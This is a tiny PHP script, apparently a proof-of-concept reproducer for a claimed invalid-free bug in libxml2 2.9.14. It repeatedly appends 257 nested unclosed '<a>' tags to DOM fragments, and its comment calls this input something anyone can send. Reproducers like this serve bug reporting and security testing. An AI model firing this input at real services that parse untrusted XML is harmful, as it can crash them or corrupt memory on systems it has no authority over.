<?php // 771 bytes that anyone can send: libxml2 2.9.14 frees memory that it must not free.
$d = new DOMDocument;
$d->loadXML('<r/>');
for ($i = 0; $i < 20; $i++) {
    $f = $d->createDocumentFragment();
    @$f->appendXML(str_repeat('<a>', 257));
}
echo 'done';
